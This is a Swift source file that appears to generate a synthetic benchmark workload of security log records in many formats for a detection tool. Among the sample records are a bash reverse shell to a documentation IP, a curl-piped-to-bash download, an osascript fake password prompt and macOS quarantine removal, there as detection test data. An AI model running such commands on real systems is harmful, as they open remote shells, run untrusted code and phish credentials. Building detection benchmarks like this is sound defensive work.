import Foundation
import VigilIngest
import VigilModel

/// A realistic mixed workload for `vigil bench`: every source format, about 1% of events
/// that rules detect (EICAR, reverse shells, downloads piped to a shell, …), and sshd
/// failure bursts that the brute-force correlation catches.
public enum BenchWorkload {
    /// Share of the events per format (sums to 100).
    public static let mix: [(format: SourceFormat, percent: Int)] = [
        (.json, 30), (.auditd, 20), (.syslog, 15), (.sysmonLinux, 10), (.osquery, 5), (.santa, 4), (.eslogger, 4),
        (.clamav, 3), (.cef, 3), (.mobileThreatDefense, 2), (.unifiedLog, 2), (.jamfProtect, 2),
    ]

    /// Writes one file per format under `directory` holding about `events` events in all.
    /// Returns (format, path) pairs.
    public static func write(events: Int, to directory: URL, formats: [SourceFormat]? = nil) throws -> [(format: SourceFormat, path: String)] {
        let chosen = mix.filter { formats?.contains($0.format) ?? true }
        let totalPercent = chosen.reduce(0) { $0 + $1.percent }
        var files: [(format: SourceFormat, path: String)] = []
        for (format, percent) in chosen {
            let count = max(1, events * percent / totalPercent)
            let url = directory.appendingPathComponent("bench-\(format.rawValue).log")
            // A file that cannot be created fails in `FileHandle(forWritingTo:)`, with its reason.
            _ = FileManager.default.createFile(atPath: url.path, contents: nil)
            let handle = try FileHandle(forWritingTo: url)
            var chunk = ""
            var generator = Lines(format: format)
            var produced = 0
            while produced < count {
                let (lines, eventCount) = generator.next()
                for line in lines { chunk += line; chunk += "\n" }
                produced += eventCount
                if chunk.utf8.count > 1 << 20 {
                    handle.write(Data(chunk.utf8))
                    chunk = ""
                }
            }
            handle.write(Data(chunk.utf8))
            try handle.close()
            files.append((format, url.path))
        }
        return files
    }

    /// The lines of the workload's `number`th record (from 1) in `format`: a well-formed record
    /// of every format, for tests that surround good input with bad.
    public static func sampleRecord(_ format: SourceFormat, number: Int = 1) -> [String] {
        var generator = Lines(format: format)
        generator.index = number - 1
        return generator.next().lines
    }

    /// Generates the lines of one format, deterministically.
    struct Lines {
        let format: SourceFormat
        var index = 0
        static let base = 1_795_000_000  // 2026-11-18, seconds

        init(format: SourceFormat) { self.format = format }

        /// The next record's lines and how many events they make.
        mutating func next() -> (lines: [String], events: Int) {
            index += 1
            let i = index
            let detect = i % 100 == 0
            let seconds = Self.base + i / 4
            let iso = Timestamp(seconds: Double(seconds) + Double(i % 1000) / 1000).iso8601
            let host = "host-\(i % 500)"
            switch format {
            case .json:
                let command = detect ? "bash -i >& /dev/tcp/203.0.113.\(i % 250)/4444 0>&1" : ["ls -la /var/log", "systemctl status nginx", "python3 /opt/app/worker.py --queue \(i % 7)"][i % 3]
                return ([#"{"@timestamp":"\#(iso)","host":{"name":"\#(host)","os":{"platform":"linux","version":"Ubuntu 22.04"}},"logsource":{"category":"process_creation"},"Image":"/usr/bin/bash","CommandLine":"\#(command)","User":"svc","ProcessId":"\#(1000 + i)","ParentImage":"/usr/lib/systemd/systemd"}"#], 1)
            case .auditd:
                let serial = i
                let stamp = "\(seconds).\(String(format: "%03d", i % 1000)):\(serial)"
                let argv = detect ? #"a0="dd" a1="if=/dev/zero" a2="bs=1" a3="count=1""# : #"a0="ls" a1="-la" a2="/tmp""#
                let exe = detect ? "/bin/dd" : "/bin/ls"
                return ([
                    #"node=\#(host) type=SYSCALL msg=audit(\#(stamp)): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 a2=57 a3=0 items=2 ppid=\#(900 + i % 50) pid=\#(2000 + i) auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=1 comm="\#(exe.split(separator: "/").last!)" exe="\#(exe)" key=(null)"#,
                    #"node=\#(host) type=EXECVE msg=audit(\#(stamp)): argc=3 \#(argv)"#,
                    #"node=\#(host) type=CWD msg=audit(\#(stamp)): cwd="/home/user""#,
                    #"node=\#(host) type=EOE msg=audit(\#(stamp)):"#,
                ], 5)
            case .syslog:
                let clock = Self.clock(seconds)
                // Bursts of failures from one address now and then: the brute-force correlation fires.
                if i % 500 < 12 {
                    return (["\(clock) \(host) sshd[\(3000 + i)]: Failed password for root from 198.51.100.\(i / 500 % 250) port \(40000 + i % 20000) ssh2"], 1)
                }
                return (["\(clock) \(host) sshd[\(3000 + i)]: Accepted publickey for deploy from 10.0.\(i % 250).\(i % 200) port \(50000 + i % 10000) ssh2"], 1)
            case .sysmonLinux:
                let clock = Self.clock(seconds)
                let command = detect ? "curl -fsSL http://203.0.113.9/x.sh | bash" : "/usr/bin/cat /etc/hostname"
                return ([#"\#(clock) \#(host) sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="\#(iso)"/><EventRecordID>\#(i)</EventRecordID><Correlation/><Execution ProcessID="3099" ThreadID="3099"/><Channel>Linux-Sysmon/Operational</Channel><Computer>\#(host)</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">\#(iso)</Data><Data Name="ProcessGuid">{d65774de-8d10-6175-0000-000000000000}</Data><Data Name="ProcessId">\#(4000 + i)</Data><Data Name="Image">/usr/bin/bash</Data><Data Name="CommandLine">\#(command)</Data><Data Name="CurrentDirectory">/root</Data><Data Name="User">root</Data><Data Name="ParentImage">/usr/sbin/sshd</Data></EventData></Event>"#], 1)
            case .osquery:
                return ([#"{"name":"pack_process_events","hostIdentifier":"\#(host)","calendarTime":"x","unixTime":"\#(seconds)","epoch":0,"counter":\#(i),"decorations":{"platform":"linux"},"columns":{"path":"/usr/bin/git","cmdline":"git pull","pid":"\#(i)","parent":"1","uid":"1000","cwd":"/srv"},"action":"added"}"#], 1)
            case .santa:
                return (["[\(iso)] I santad: action=EXEC|decision=ALLOW|reason=BINARY|sha256=4315\(i)|pid=\(i)|ppid=1|uid=501|user=alice|gid=20|group=staff|mode=M|path=/usr/bin/\(detect ? "xattr" : "true")|args=\(detect ? "xattr -d com.apple.quarantine /Applications/X.app" : "true")"], 1)
            case .eslogger, .jamfProtect:
                let vendor = format == .jamfProtect ? #","metadata":{"vendor":"Jamf"},"host":{"hostname":"\#(host)","os":"Version 14.5 (Build 23F79)"}"# : ""
                let exe = detect ? "/usr/bin/osascript" : "/bin/ls"
                let args = detect ? #"["osascript","-e","display dialog \"Enter your password\" default answer \"\" with hidden answer"]"# : #"["ls","-l"]"#
                return ([#"{"event_type":9,"time":"\#(iso)","event":{"exec":{"target":{"executable":{"path":"\#(exe)"},"audit_token":{"pid":\#(i),"euid":501}},"args":\#(args),"cwd":{"path":"/Users/alice"}}},"process":{"executable":{"path":"/bin/zsh"},"audit_token":{"pid":1}}\#(vendor)}"#], 1)
            case .clamav:
                let clock = "Fri Nov 27 20:23:\(String(format: "%02d", i % 60)) 2026"
                if i % 20 == 0 { return (["\(clock) -> /srv/uploads/file\(i).bin: Win.Test.EICAR_HDB-1(44d88612fea8a8f36de82e1278abb02f:68) FOUND"], 1) }
                return (["\(clock) -> SelfCheck: Database status OK."], 1)
            case .cef:
                let signature = detect ? "EICAR_Test_File" : "Riskware.Generic"
                return (["CEF:0|Vendor|Endpoint AV|1.0|scan.detected|Scan event|5|rt=\(seconds)000 dhost=\(host) cs1Label=Malware cs1=\(signature) fname=/tmp/f\(i) act=\(i % 2 == 0 ? "quarantined" : "blocked")"], 1)
            case .mobileThreatDefense:
                let platform = i % 2 == 0 ? "Android" : "iOS"
                return ([#"{"TimeGenerated":"\#(iso)","ThreatType_s":"Network","ThreatTitle_s":"Rogue access point \#(i % 9)","DeviceOS_s":"\#(platform == "iOS" ? "17.5" : "14")","DeviceId_g":"device-\#(i % 300)","DevicePlatform_s":"\#(platform)","Status_s":"Active","EventTimeStamp_t":"\#(iso)"}"#], 1)
            case .unifiedLog:
                return ([#"{"timestamp":"\#(iso)","eventMessage":"opened session \#(i)","processImagePath":"/usr/libexec/sshd-session","subsystem":"com.apple.ssh","category":"auth"}"#], 1)
            }
        }

        static func clock(_ seconds: Int) -> String {
            let stamp = Timestamp(seconds: Double(seconds)).iso8601
            let months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
            let month = months[Int(stamp.dropFirst(5).prefix(2))! - 1]
            let day = Int(stamp.dropFirst(8).prefix(2))!
            return "\(month) \(day < 10 ? " " : "")\(day) \(stamp.dropFirst(11).prefix(8))"
        }
    }
}
